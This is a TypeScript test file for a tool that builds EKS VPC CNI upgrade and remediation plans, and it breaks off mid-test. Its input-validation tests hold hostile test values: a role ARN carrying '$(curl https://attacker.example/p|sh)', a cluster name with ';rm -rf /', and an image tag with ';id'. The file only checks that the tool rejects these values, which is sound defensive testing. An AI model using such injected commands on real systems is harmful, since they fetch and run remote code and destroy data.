import { mkdirSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { forCommand, forMarkdown } from '../../lib/escape.js';
import { evaluateClusterWithPlan } from '../../lib/evaluate/evaluate.js';
import { upstreamRelease } from '../../lib/evaluate/plan/releases.js';
import type { Rule } from '../../lib/evaluate/rule.js';
import { planView } from '../../lib/plan-text.js';
import { loadRules } from '../../lib/rules/load.js';
import type { ClusterFacts, ClusterPlan, CniFacts } from '../../lib/types.js';
import { K8S_124_EARLY_2023, K8S_129_SPRING_2024, K8S_129_SPRING_2024_DEFAULT, K8S_133_2026 } from '../fixtures/catalogs.js';
import { clusterFacts } from '../fixtures/cluster.js';
import { optionValue, runPrinted } from '../support/run-printed.js';

let rules: Rule[];
beforeAll(async () => {
  rules = await loadRules();
});

const commandsOf = (plan: ClusterPlan | undefined) => plan?.steps.flatMap((s) => s.commands) ?? [];
const addonVersions = (plan: ClusterPlan | undefined) => commandsOf(plan).flatMap((c) => [...c.matchAll(/--addon-version (\S+)/g)].map((m) => m[1]!));

function selfManaged(cni: Partial<CniFacts>, overrides: Partial<Omit<ClusterFacts, 'cni'>> = {}): ClusterFacts {
  return clusterFacts({
    kubernetesVersion: '1.29',
    offeredVersions: K8S_129_SPRING_2024,
    ...overrides,
    cni: { managed: false, source: 'daemonset', status: null, installMethod: 'manifest', configurationValues: '{"env":{"WARM_ENI_TARGET":"1"}}', ...cni },
  });
}

/** A rule as an organization would add it with --rules. */
function extraRule(overrides: Partial<Rule>): Rule {
  return {
    id: 'org-rule',
    title: 'An organization rule',
    severity: 'medium',
    addon: 'vpc-cni',
    remediation: { preset: 'upgrade', text: 'Upgrade to {{fix.target}}.' },
    references: [],
    sections: { impact: '', rootCause: '', triggerConditions: '', remediation: '', mitigation: '' },
    source: 'test',
    ...overrides,
  } as Rule;
}

describe('plan: one merged configuration per cluster', () => {
  const yaml = [
    'env:',
    '  ENABLE_PREFIX_DELEGATION: "true"',
    '  AWS_VPC_K8S_CNI_CUSTOM_NETWORK_CFG: "true"',
    '  ENI_CONFIG_LABEL_DEF: topology.kubernetes.io/zone',
    '  WARM_IP_TARGET: "5"',
    '  HTTPS_PROXY: http://cni:s3cr3t-pass@proxy.internal:3128',
    'livenessProbeTimeoutSeconds: 5',
    '',
  ].join('\n');

  it('applies every fix to the YAML configuration the cluster runs, once, keeping every other setting', () => {
    // Act: WARM_IP_TARGET without MINIMUM_IP_TARGET, and a low probe timeout, on one cluster
    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: yaml } }));

    // Assess
    expect(findings.map((f) => f.ruleId).sort()).toEqual(['vpc-cni-probe-timeout-low', 'vpc-cni-warm-ip-target-without-minimum']);
    const updates = commandsOf(plan).filter((c) => c.includes('--configuration-values'));
    expect(updates).toHaveLength(1);
    expect(updates[0]).toContain('--resolve-conflicts PRESERVE');
    expect(plan?.configuration).toMatchObject({ sourceFormat: 'yaml', source: 'addon' });
    const merged = JSON.parse(plan!.configuration!.values) as { env: Record<string, string>; livenessProbeTimeoutSeconds: number; readinessProbeTimeoutSeconds: number };
    expect(merged.env).toMatchObject({ ENABLE_PREFIX_DELEGATION: 'true', AWS_VPC_K8S_CNI_CUSTOM_NETWORK_CFG: 'true', ENI_CONFIG_LABEL_DEF: 'topology.kubernetes.io/zone', WARM_IP_TARGET: '5' });
    expect(merged.env.MINIMUM_IP_TARGET).toBe('$MINIMUM_IP_TARGET_HCHPUW');
    expect(merged).toMatchObject({ livenessProbeTimeoutSeconds: 10, readinessProbeTimeoutSeconds: 10 });
    // Both findings point to the one command (after the backup): neither undoes the other.
    for (const f of findings) expect(f.remediation.commands).toEqual(['aws eks describe-addon --cluster-name payments --region us-east-1 --addon-name vpc-cni --output json > vpc-cni-addon-payments.json', ...updates]);
  });

  it('never prints a secret of the configuration: it names the key and reads the value from a guarded variable', () => {
    // Act
    const result = evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: yaml } }));

    // Assess
    expect(JSON.stringify(result)).not.toContain('s3cr3t');
    expect(result.plan?.configuration?.withheld).toEqual([{ path: 'env.HTTPS_PROXY', variable: 'CURRENT_HTTPS_PROXY_HCHPUW' }]);
    expect(commandsOf(result.plan).join('\n')).toContain(`"\${CURRENT_HTTPS_PROXY_HCHPUW:?set CURRENT_HTTPS_PROXY_HCHPUW to the current env.HTTPS_PROXY, withheld from this report}"`);
    expect(commandsOf(result.plan).join('\n')).toContain('"HTTPS_PROXY":$CURRENT_HTTPS_PROXY_HCHPUW');
  });

  it('asks for a value a person must choose, and the command refuses to run without it', () => {
    // Act
    const { plan } = evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: '{"env":{"WARM_IP_TARGET":"5"}}' } }));

    // Assess
    expect(plan?.configuration?.choices).toEqual([{ path: 'env.MINIMUM_IP_TARGET', variable: 'MINIMUM_IP_TARGET_HCHPUW', hint: 'the number of pods a node usually runs' }]);
    expect(commandsOf(plan).join('\n')).toContain('${MINIMUM_IP_TARGET_HCHPUW:?set MINIMUM_IP_TARGET_HCHPUW to the number of pods a node usually runs}');
    expect(commandsOf(plan).join('\n')).not.toContain('<');
  });

  it('removes WARM_PREFIX_TARGET without prefix delegation, and raises only the timeouts below 10', () => {
    // Act
    const prefix = evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: '{"env":{"WARM_PREFIX_TARGET":"2","WARM_ENI_TARGET":"2"}}' } }));
    const probes = evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: '{"livenessProbeTimeoutSeconds":5,"readinessProbeTimeoutSeconds":30}' } }));

    // Assess
    expect(prefix.plan?.configuration?.values).toBe('{"env":{"WARM_ENI_TARGET":"2"}}');
    expect(probes.plan?.configuration?.values).toBe('{"livenessProbeTimeoutSeconds":10,"readinessProbeTimeoutSeconds":30}');
  });
});

describe('plan: no invented versions', () => {
  it('names the upstream release and lists what EKS offers when the catalog was not read', () => {
    // Act
    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.24', cni: { version: 'v1.12.0-eksbuild.1' } }));

    // Assess
    // 1.12.5 clears the regression but not the stale-IMDS bug (below 1.18.4): the first release clear of both
    expect(plan).toMatchObject({ target: null, releaseFloor: '1.18.4' });
    expect(addonVersions(plan)).toEqual([]);
    expect(commandsOf(plan).join('\n')).toContain('aws eks describe-addon-versions --addon-name vpc-cni');
    expect(findings.find((f) => f.ruleId === 'vpc-cni-ipamd-reconcile-regression')?.remediation.text).toContain('release 1.18.4 or later');
  });

  it('says "upgrade Kubernetes first" with the path when EKS offers nothing for the Kubernetes version', () => {
    // Act: Kubernetes 1.21, which the 2026 catalog no longer lists anything for
    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.21', cni: { version: 'v1.7.1-eksbuild.1' }, offeredVersions: [] }));

    // Assess
    expect(plan?.kubernetesFirst).toBe('1.22');
    expect(plan?.targetReason).toContain('EKS offers no vpc-cni build for Kubernetes 1.21 in us-east-1: upgrade Kubernetes first, one minor at a time (1.21 → 1.22');
    expect(addonVersions(plan)).toEqual([]);
    expect(findings.every((f) => f.targetVersion === null)).toBe(true);
  });
});

describe('plan: one target per cluster, clear of every known risk', () => {
  it('gives every finding the same target, the least bad build, naming the risk it still carries', () => {
    // Act: Kubernetes 1.24, early 2023. Every 1.12 build EKS offered was still inside the
    // regression (>=1.11.4 <1.12.5), and every build below the stale-IMDS fix (1.18.4).
    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.24', cni: { version: 'v1.12.0-eksbuild.1' }, offeredVersions: K8S_124_EARLY_2023 }));

    // Assess: the HIGH regression and the LOW behind-latest finding no longer disagree
    const targets = new Set(findings.filter((f) => f.targetVersion !== null).map((f) => f.targetVersion));
    expect(findings.map((f) => f.ruleId).sort()).toEqual(['vpc-cni-behind-latest', 'vpc-cni-ipamd-reconcile-regression', 'vpc-cni-stale-imds-same-ip-count']);
    expect([...targets]).toEqual(['v1.11.3-eksbuild.1']);
    expect(plan?.risksCarried).toEqual(['vpc-cni-stale-imds-same-ip-count']);
    expect(plan?.targetReason).toContain('still carries vpc-cni-stale-imds-same-ip-count');
    expect(plan?.targetReason).toContain('a downgrade from v1.12.0-eksbuild.1');
    expect(addonVersions(plan)).toEqual(['v1.11.3-eksbuild.1']);
  });

  it('counts the rules given with --rules: one high and one medium risk are less bad than two high ones', () => {
    // Prepare: an organization rule that refuses everything below 1.12
    const org = extraRule({ id: 'org-minimum-1-12', affected: '<1.12.0', fixed: '1.12.0' });

    // Act
    const { plan } = evaluateClusterWithPlan([...rules, org], clusterFacts({ kubernetesVersion: '1.24', cni: { version: 'v1.12.0-eksbuild.1' }, offeredVersions: K8S_124_EARLY_2023 }));

    // Assess: v1.11.3 carries stale-IMDS (high) and the organization rule (medium); v1.12.2 two high ones
    expect(plan).toMatchObject({ target: 'v1.11.3-eksbuild.1', risksCarried: ['vpc-cni-stale-imds-same-ip-count', 'org-minimum-1-12'] });
  });

  it('targets the newest build clear of every risk when EKS offers one', () => {
    // Act: Kubernetes 1.33 in 2026
    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.33', cni: { version: 'v1.19.5-eksbuild.1' }, offeredVersions: K8S_133_2026 }));

    // Assess
    expect(plan).toMatchObject({ target: 'v1.21.1-eksbuild.8', risksCarried: [] });
    expect(plan?.targetReason).toContain('clear of every known risk');
    expect(new Set(findings.map((f) => f.targetVersion).filter(Boolean))).toEqual(new Set(['v1.21.1-eksbuild.8']));
  });

  it('moves no target for an informational risk, and says its fix is not offered yet', () => {
    // Act: the newest 1.33 build of the catalog is still below 1.23.0 (kube-proxy nftables, informational)
    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.33', cni: { version: 'v1.21.1-eksbuild.8' }, offeredVersions: K8S_133_2026 }));

    // Assess
    const nftables = findings.find((f) => f.ruleId === 'vpc-cni-kube-proxy-nftables-secondary-eni');
    expect(nftables?.remediation.text).toContain('release 1.23.0 or later, not yet offered for Kubernetes 1.33');
    expect(plan?.target).toBeNull();
    expect(plan?.targetReason).toContain('fixed in 1.23.0, which EKS does not offer for Kubernetes 1.33 yet');
    expect(addonVersions(plan)).toEqual([]);
  });

  it('counts a configuration-dependent version risk only where its condition holds', () => {
    // Prepare: a risk of v1.18.0 that only matters with security groups for pods on
    const sgp = extraRule({ id: 'org-sgp-1-18-0', severity: 'high', affected: '>=1.18.0 <1.18.1', fixed: '1.18.1', when: { fact: 'addon.config.env.ENABLE_POD_ENI', equals: true } });
    const facts = (env: Record<string, string>) =>
      clusterFacts({ cni: { version: 'v1.16.0-eksbuild.1', configurationValues: JSON.stringify({ env }) }, offeredVersions: K8S_129_SPRING_2024 });

    // Act
    const on = evaluateClusterWithPlan([...rules, sgp], facts({ ENABLE_POD_ENI: 'true' }));
    const off = evaluateClusterWithPlan([...rules, sgp], facts({ ENABLE_POD_ENI: 'false' }));

    // Assess
    expect(on.plan?.target).toBe('v1.17.1-eksbuild.1');
    expect(off.plan?.target).toBe('v1.18.0-eksbuild.1');
  });

  it('targets the newest build, not the default one', () => {
    // Act
    const { plan } = evaluateClusterWithPlan(rules, clusterFacts({ cni: { version: K8S_129_SPRING_2024_DEFAULT }, offeredVersions: K8S_129_SPRING_2024 }));

    // Assess
    expect(plan?.target).toBe('v1.18.0-eksbuild.1');
  });
});

describe('plan: one minor at a time, for real', () => {
  it('visits the newest offered build of every minor in between, once per cluster', () => {
    // Act: Kubernetes 1.29, spring 2024
    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ cni: { version: 'v1.15.1-eksbuild.1' }, offeredVersions: K8S_129_SPRING_2024 }));

    // Assess
    expect(plan?.path).toEqual(['v1.16.4-eksbuild.2', 'v1.17.1-eksbuild.1', 'v1.18.0-eksbuild.1'].map((version) => ({ version, selfManaged: false })));
    expect(plan?.steps.filter((s) => s.commands.some((c) => c.includes('update-addon')))).toHaveLength(1);
    expect(findings.every((f) => !/one minor/i.test(f.remediation.text) || f.ruleId === 'vpc-cni-behind-latest')).toBe(true);
  });

  it('names the minors EKS offers no build of, and goes through them self-managed with the upstream release', () => {
    // Act: Kubernetes 1.33 in 2026 offers nothing of 1.17 or 1.18
    const { plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.33', cni: { version: 'v1.16.4-eksbuild.2' }, offeredVersions: K8S_133_2026 }));

    // Assess
    expect(plan?.missingMinors).toEqual(['1.17', '1.18']);
    expect(plan?.path).toEqual([
      { version: 'v1.17.1', selfManaged: true },
      { version: 'v1.18.6', selfManaged: true },
      { version: 'v1.19.6-eksbuild.7', selfManaged: false },
      { version: 'v1.20.5-eksbuild.1', selfManaged: false },
      { version: 'v1.21.1-eksbuild.8', selfManaged: false },
    ]);
    const commands = commandsOf(plan);
    expect(commands.some((c) => c.startsWith('aws eks delete-addon --cluster-name payments --region us-east-1 --addon-name vpc-cni --preserve'))).toBe(true);
    expect(commands).toContain('mkdir -p aws-vpc-cni-v1.17.1-payments && curl -fsSL -o aws-vpc-cni-v1.17.1-payments/aws-k8s-cni.yaml https://raw.githubusercontent.com/aws/amazon-vpc-cni-k8s/v1.17.1/config/master/aws-k8s-cni.yaml');
    expect(commands.some((c) => c.startsWith('aws eks create-addon') && c.includes('--addon-version v1.19.6-eksbuild.7 --resolve-conflicts OVERWRITE'))).toBe(true);
    for (const version of addonVersions(plan)) expect(K8S_133_2026).toContain(version);
  });
});

describe('plan: self-managed, by how aws-node was installed', () => {
  const helm = { installMethod: 'helm' as const, helmRelease: { name: 'aws-vpc-cni', namespace: 'kube-system', chartVersion: '1.16.4' } };

  it('upgrades a Helm install with the chart of each release, its network policy agent, and the cluster context', () => {
    // Act
    const { plan } = evaluateClusterWithPlan(rules, selfManaged({ ...helm, version: 'v1.16.4', image: '602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.16.4' }));

    // Assess
    const commands = commandsOf(plan);
    expect(commands[0]).toBe('aws eks update-kubeconfig --name payments --region us-east-1 --alias payments');
    expect(commands).toContain('helm repo add eks https://aws.github.io/eks-charts --force-update && helm repo update eks');
    const upgrades = commands.filter((c) => c.startsWith('helm upgrade'));
    expect(upgrades.map((c) => /--version (\S+)/.exec(c)?.[1])).toEqual(['1.17.1', '1.18.0']);
    expect(upgrades[1]).toContain('image.tag=v1.18.0,init.image.tag=v1.18.0,nodeAgent.image.tag=v1.1.0');
    expect(upgrades[1]).toContain('--kube-context payments');
    expect(upgrades[1]).toContain('--reset-then-reuse-values');
    expect(commands.join('\n')).not.toContain('kubectl apply');
  });

  it('takes the chart the release was published with, not a guess from the release number', () => {
    expect(upstreamRelease('1.12.6')?.chart).toBe('1.2.8');
    expect(upstreamRelease('1.18.1')?.chart).toBe('1.18.1');
    expect(upstreamRelease('1.20.5')?.chart).toBeNull();
    expect(upstreamRelease('1.23.0')).toMatchObject({ agent: 'v1.4.1' });
  });

  it('applies the release manifest for the partition and region to a manifest install, keeping its settings', () => {
    // Act
    const { plan } = evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.17.1', image: '602401143452.dkr.ecr.eu-west-1.amazonaws.com/amazon-k8s-cni:v1.17.1' }, { region: 'eu-west-1' }));

    // Assess
    const commands = commandsOf(plan);
    expect(commands).toContain('mkdir -p aws-vpc-cni-v1.18.0-payments && curl -fsSL -o aws-vpc-cni-v1.18.0-payments/aws-k8s-cni.yaml https://raw.githubusercontent.com/aws/amazon-vpc-cni-k8s/v1.18.0/config/master/aws-k8s-cni.yaml');
    expect(commands).toContain(`sed -i.bak -e 's|602401143452.dkr.ecr.us-west-2.amazonaws.com|602401143452.dkr.ecr.eu-west-1.amazonaws.com|g' aws-vpc-cni-v1.18.0-payments/aws-k8s-cni.yaml`);
    expect(commands).toContain('kubectl --context payments apply -k aws-vpc-cni-v1.18.0-payments && kubectl --context payments -n kube-system rollout status daemonset aws-node --timeout 15m');
  });

  it('gives the move to the managed add-on after backing up: create-addon with OVERWRITE and the settings', () => {
    // Act
    const { plan } = evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.18.0', image: '602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.18.0' }));

    // Assess
    const titles = plan!.steps.map((s) => s.title);
    expect(titles.findIndex((t) => t.startsWith('Back up'))).toBeLessThan(titles.findIndex((t) => t.includes('managed add-on')));
    expect(commandsOf(plan)).toContain(
      `aws eks create-addon --cluster-name payments --region us-east-1 --addon-name vpc-cni --addon-version v1.18.0-eksbuild.1 --resolve-conflicts OVERWRITE --configuration-values '{"env":{"WARM_ENI_TARGET":"1"}}' --service-account-role-arn arn:aws:iam::222222222222:role/AmazonEKSVPCCNIRole && aws eks wait addon-active --cluster-name payments --region us-east-1 --addon-name vpc-cni`,
    );
  });

  it('names the cluster context on every kubectl and helm line', () => {
    for (const facts of [selfManaged({ ...helm, version: 'v1.16.4' }), selfManaged({ version: 'v1.15.1' }), clusterFacts({ kubernetesVersion: '1.33', cni: { version: 'v1.16.4-eksbuild.2' }, offeredVersions: K8S_133_2026 })]) {
      const commands = commandsOf(evaluateClusterWithPlan(rules, facts).plan);
      for (const segment of commands.flatMap((c) => c.split(/&&|\|/)).map((c) => c.trim())) {
        if (segment.startsWith('kubectl')) expect(segment).toMatch(/^kubectl --context payments /);
        if (segment.startsWith('helm ') && !segment.startsWith('helm repo')) expect(segment).toContain('--kube-context payments');
      }
    }
  });
});

describe('plan: partitions and registries', () => {
  it('takes the China manifest as it is in cn-northwest-1, and points it at cn-north-1 there', () => {
    // Act
    const northwest = commandsOf(evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.17.1' }, { region: 'cn-northwest-1', partition: 'aws-cn' })).plan);
    const north = commandsOf(evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.17.1' }, { region: 'cn-north-1', partition: 'aws-cn' })).plan);

    // Assess
    expect(northwest).toContain('mkdir -p aws-vpc-cni-v1.18.0-payments && curl -fsSL -o aws-vpc-cni-v1.18.0-payments/aws-k8s-cni.yaml https://raw.githubusercontent.com/aws/amazon-vpc-cni-k8s/v1.18.0/config/master/aws-k8s-cni-cn.yaml');
    expect(northwest.some((c) => c.startsWith('sed'))).toBe(false);
    expect(north).toContain(`sed -i.bak -e 's|961992271922.dkr.ecr.cn-northwest-1.amazonaws.com.cn|918309763551.dkr.ecr.cn-north-1.amazonaws.com.cn|g' aws-vpc-cni-v1.18.0-payments/aws-k8s-cni.yaml`);
  });

  it('takes the GovCloud manifest in us-gov-west-1, and the registry domain of China in a Helm install', () => {
    // Act
    const gov = commandsOf(evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.17.1' }, { region: 'us-gov-west-1', partition: 'aws-us-gov' })).plan);
    const china = commandsOf(
      evaluateClusterWithPlan(
        rules,
        selfManaged(
          { version: 'v1.17.1', installMethod: 'helm', helmRelease: { name: 'cni', namespace: 'kube-system', chartVersion: '1.17.1' }, serviceAccountRoleArn: 'arn:aws-cn:iam::222222222222:role/cni' },
          { region: 'cn-north-1', partition: 'aws-cn' },
        ),
      ).plan,
    );

    // Assess
    expect(gov).toContain('mkdir -p aws-vpc-cni-v1.18.0-payments && curl -fsSL -o aws-vpc-cni-v1.18.0-payments/aws-k8s-cni.yaml https://raw.githubusercontent.com/aws/amazon-vpc-cni-k8s/v1.18.0/config/master/aws-k8s-cni-us-gov-west-1.yaml');
    const upgrade = china.find((c) => c.startsWith('helm upgrade'))!;
    expect(upgrade).toContain('image.account=918309763551,image.region=cn-north-1,image.domain=amazonaws.com.cn');
    expect(upgrade).toContain('nodeAgent.image.account=918309763551');
    expect(china.join('\n')).toContain('arn:aws-cn:');
  });

  it('keeps a cluster that pulls from ECR Public on ECR Public', () => {
    // Act
    const commands = commandsOf(evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.17.1', image: 'public.ecr.aws/eks/amazon-k8s-cni:v1.17.1' })).plan);

    // Assess
    expect(commands).toContain(
      `sed -i.bak -e 's|602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon/aws-network-policy-agent|public.ecr.aws/eks/aws-network-policy-agent|g' -e 's|602401143452.dkr.ecr.us-west-2.amazonaws.com/|public.ecr.aws/eks/|g' aws-vpc-cni-v1.18.0-payments/aws-k8s-cni.yaml`,
    );
  });
});

describe('plan: no noise', () => {
  const clusters = () => [
    clusterFacts({ cni: { version: 'v1.15.1-eksbuild.1', status: 'DEGRADED', serviceAccountRoleArn: null, healthIssues: [{ code: 'ConfigurationConflict', message: 'x' }] }, offeredVersions: K8S_129_SPRING_2024 }),
    clusterFacts({ kubernetesVersion: '1.33', cni: { version: 'v1.16.4-eksbuild.2', configurationValues: '{"env":{"WARM_IP_TARGET":"5"}}' }, offeredVersions: K8S_133_2026 }),
    selfManaged({ version: 'v1.15.1', image: '123456789012.dkr.ecr.us-east-1.amazonaws.com/mirror/amazon-k8s-cni:v1.15.1', officialImage: false, serviceAccountRoleArn: null }),
    selfManaged({ version: 'v1.18.0-eksbuild.1' }),
  ];

  it('repeats no command line, leaks no "unknown" or placeholder, and moves nowhere it already is', () => {
    for (const facts of clusters()) {
      // Act
      const { findings, plan } = evaluateClusterWithPlan(rules, facts);

      // Assess
      const commands = commandsOf(plan);
      expect(new Set(commands).size).toBe(commands.length);
      expect(commands.join('\n')).not.toMatch(/<[A-Za-z ]+>|undefined|\{\{|--force/);
      for (const f of findings) {
        expect(f.remediation.text).not.toMatch(/\(?unknown\)?/);
        expect(f.targetVersion).not.toBe(f.observedVersion);
      }
    }
  });

  it('says "one minor at a time" only where a version moves', () => {
    const { findings } = evaluateClusterWithPlan(rules, clusters()[0]!);
    for (const f of findings.filter((f) => f.ruleId === 'vpc-cni-no-iam-role' || f.ruleId === 'vpc-cni-unhealthy')) expect(f.remediation.text).not.toMatch(/minor/);
  });

  it('names the EKS registry of the region instead of a placeholder', () => {
    const { plan } = evaluateClusterWithPlan(rules, clusters()[2]!);
    expect(commandsOf(plan)).toContain(
      'kubectl --context payments set image daemonset aws-node -n kube-system aws-node=602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.15.1 aws-vpc-cni-init=602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni-init:v1.15.1 && kubectl --context payments -n kube-system rollout status daemonset aws-node --timeout 15m',
    );
  });
});

describe('plan: values from outside enter commands only validated (issue 14)', () => {
  const HOSTILE = 'arn:aws:iam::111122223333:role/cni $(curl https://attacker.example/p|sh)';

  it('names a role annotation that is not an IAM role ARN as invalid and keeps it out of every command', () => {
    // Act
    const { findings, plan } = evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.17.1', serviceAccountRoleArn: HOSTILE }));

    // Assess
    expect(plan?.invalid).toEqual([{ what: 'IAM role ARN (aws-node ServiceAccount annotation eks.amazonaws.com/role-arn)', reason: expect.stringContaining('not a valid IAM role ARN') }]);
    expect(JSON.stringify({ findings, plan })).not.toContain('attacker.example');
    expect(commandsOf(plan).some((c) => c.startsWith('aws eks create-addon'))).toBe(true);
  });

  it('gives no command at all for a cluster whose name or region is not one, and refuses a hostile image tag', () => {
    // Act
    const badName = evaluateClusterWithPlan(rules, clusterFacts({ clusterName: 'prod;rm -rf /', cni: { version: 'v1.15.1-eksbuild.1' }, offeredVersions: K8S_129_SPRING_2024 }));
    const badTag = evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.15.1;id', image: '123456789012.dkr.ecr.us-east-1.amazonaws.com/mirror/amazon-k8s-cni:v1.15.1;id', officialImage: false }));

    // Assess
    expect(commandsOf(badName.plan)).toEqual([]);
    expect(badName.plan?.invalid[0]?.what).toBe('cluster name (cluster)');
    expect(commandsOf(badTag.plan).join('\n')).not.toContain(';id');
    expect(badTag.plan?.invalid.some((v) => v.what.includes('{{addon.version}}'))).toBe(true);
  });
});

describe('plan: break-test defects (issue 12)', () => {
  const manifestAt = (version: string, overrides: Partial<Omit<ClusterFacts, 'cni'>> = {}, env = '{"env":{"WARM_ENI_TARGET":"1"}}') =>
    selfManaged({ version, image: `602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:${version}`, configurationValues: env }, overrides);

  it('never moves a self-managed aws-node newer than every offered build down, and says so', () => {
    // Act: v1.19.2 by manifest; Kubernetes 1.29 in spring 2024 offers up to v1.18.0
    const { findings, plan } = evaluateClusterWithPlan(rules, manifestAt('v1.19.2'));

    // Assess
    expect(plan?.target).toBeNull();
    expect(addonVersions(plan)).toEqual([]);
    expect(commandsOf(plan).join('\n')).not.toMatch(/apply -k|create-addon/);
    expect(plan?.targetReason).toContain('stay self-managed until EKS offers 1.19.2 or later');
    for (const f of findings) expect(f.targetVersion).toBeNull();
  });

  it('gives no downgrade command to a risky self-managed aws-node whose less risky offered builds are all older', () => {
    // Act: v1.12.0 carries the IPAMD regression; Kubernetes 1.24 in early 2023 offers v1.11.3 as the least bad
    const { findings, plan } = evaluateClusterWithPlan(rules, manifestAt('v1.12.0', { kubernetesVersion: '1.24', offeredVersions: K8S_124_EARLY_2023 }));

    // Assess
    expect(plan?.target).toBeNull();
    expect(addonVersions(plan)).toEqual([]);
    expect(plan?.targetReason).toContain('never moved down, so no downgrade is given');
    expect(findings.find((f) => f.ruleId === 'vpc-cni-ipamd-reconcile-regression')?.remediation.text).toMatch(/^Upgrade vpc-cni self-managed to release \S+ or later/);
    for (const f of findings) expect(`${f.remediation.text} ${f.targetVersion}`).not.toContain('v1.11');
  });

  it('edits each release manifest to keep the DaemonSet settings, and reviews it, before applying it', () => {
    // Prepare: prefix delegation, warm targets and custom networking on the cluster
    const env = '{"env":{"ENABLE_PREFIX_DELEGATION":"true","WARM_PREFIX_TARGET":"1","WARM_IP_TARGET":"5","MINIMUM_IP_TARGET":"10","AWS_VPC_K8S_CNI_CUSTOM_NETWORK_CFG":"true","ENI_CONFIG_LABEL_DEF":"topology.kubernetes.io/zone"}}';

    // Act
    const commands = commandsOf(evaluateClusterWithPlan(rules, manifestAt('v1.16.4', {}, env)).plan);

    // Assess: for each release, download → kustomization with every setting → diff → apply
    for (const release of ['v1.17.1', 'v1.18.0']) {
      const dir = `aws-vpc-cni-${release}-payments`;
      const kustomization = commands.find((c) => c.startsWith("printf '%s\\n' ") && c.endsWith(`> ${dir}/kustomization.yaml`))!;
      const patch = JSON.parse((JSON.parse(kustomization.slice("printf '%s\\n' '".length, kustomization.lastIndexOf("' >"))) as { patches: { patch: string }[] }).patches[0]!.patch) as {
        spec: { template: { spec: { containers: { name: string; env: { name: string; value: string }[] }[] } } };
      };
      expect(Object.fromEntries(patch.spec.template.spec.containers[0]!.env.map((e) => [e.name, e.value]))).toEqual(JSON.parse(env).env);
      const order = [`mkdir -p ${dir} && curl`, `printf '%s\\n' `, `kubectl --context payments diff -k ${dir}`, `kubectl --context payments apply -k ${dir}`].map((p) =>
        commands.findIndex((c) => c.startsWith(p) && c.includes(dir)),
      );
      expect(order.every((i) => i >= 0)).toBe(true);
      expect([...order].sort((a, b) => a - b)).toEqual(order);
    }
    expect(commands.join('\n')).not.toMatch(/apply -f|set env/);
  });

  it('takes the v1beta1 ENIConfig CRD out of old manifests on Kubernetes 1.22 or later, and gives no Helm path through a chart that has it', () => {
    // Act: v1.7.5 on Kubernetes 1.24 (early 2023): the path crosses 1.8 and 1.9, which EKS does not offer there
    const manifest = commandsOf(evaluateClusterWithPlan(rules, manifestAt('v1.7.5', { kubernetesVersion: '1.24', offeredVersions: K8S_124_EARLY_2023 })).plan);
    const helm = evaluateClusterWithPlan(
      rules,
      selfManaged({ version: 'v1.7.5', installMethod: 'helm', helmRelease: { name: 'aws-vpc-cni', namespace: 'kube-system', chartVersion: '1.1.3' } }, { kubernetesVersion: '1.24', offeredVersions: K8S_124_EARLY_2023 }),
    );

    // Assess
    const crdOut = (release: string) => manifest.find((c) => c.endsWith(`> aws-vpc-cni-${release}-payments/kustomization.yaml`))!.includes('CustomResourceDefinition');
    expect([crdOut('v1.8.0'), crdOut('v1.9.3'), crdOut('v1.10.4')]).toEqual([true, true, false]);
    expect(manifest.some((c) => c.startsWith('aws eks create-addon'))).toBe(true);
    expect(commandsOf(helm.plan).some((c) => c.startsWith('helm upgrade'))).toBe(false);
    expect(helm.plan?.targetReason).toContain('apiextensions.k8s.io/v1beta1');
    for (const f of helm.findings.filter((f) => f.ruleId === 'vpc-cni-self-managed' || f.ruleId === 'vpc-cni-behind-latest')) expect(f.remediation.text).toMatch(/^No command is given for the move/);
  });

  it('addresses configuration keys that hold dots as one key, and withholds a secret under one by its path', () => {
    // Prepare
    const config = JSON.stringify({
      env: { WARM_IP_TARGET: '5' },
      podAnnotations: { 'prometheus.io/scrape': 'true', 'vault.hashicorp.com/agent-inject-token': 's3cr3t-t0ken' },
    });

    // Act
    const result = evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: config } }));

    // Assess
    expect(JSON.stringify(result)).not.toContain('s3cr3t');
    const configuration = result.plan!.configuration!;
    expect(configuration.withheld).toEqual([{ path: 'podAnnotations["vault.hashicorp.com/agent-inject-token"]', variable: 'CURRENT_VAULT_HASHICORP_COM_AGENT_INJECT_TOKEN_HCHPUW' }]);
    const update = commandsOf(result.plan).find((c) => c.includes('--configuration-values'))!;
    const run = runPrinted(update, { MINIMUM_IP_TARGET_HCHPUW: '$MINIMUM_IP_TARGET_HCHPUW', CURRENT_VAULT_HASHICORP_COM_AGENT_INJECT_TOKEN_HCHPUW: '$CURRENT_VAULT_HASHICORP_COM_AGENT_INJECT_TOKEN_HCHPUW' });
